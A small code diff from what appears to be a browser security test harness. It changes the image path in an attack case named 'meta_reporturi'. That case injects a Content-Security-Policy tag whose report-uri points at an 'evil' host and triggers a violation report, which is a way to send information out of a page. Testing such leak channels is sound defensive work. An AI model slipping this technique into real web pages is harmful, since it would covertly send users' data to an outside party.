@@ -118,6 +118,6 @@ Object.assign(window.attacks, {
   meta_reporturi: (evil) => {
     const content = `img-src 'none'; report-uri ${evil}/x`;
     document.head.append(make("meta", { "http-equiv": "Content-Security-Policy", content }));
-    show("img", { src: "/helper/x.png" });
+    show("img", { src: "./helper/x.png" });
   },
 });
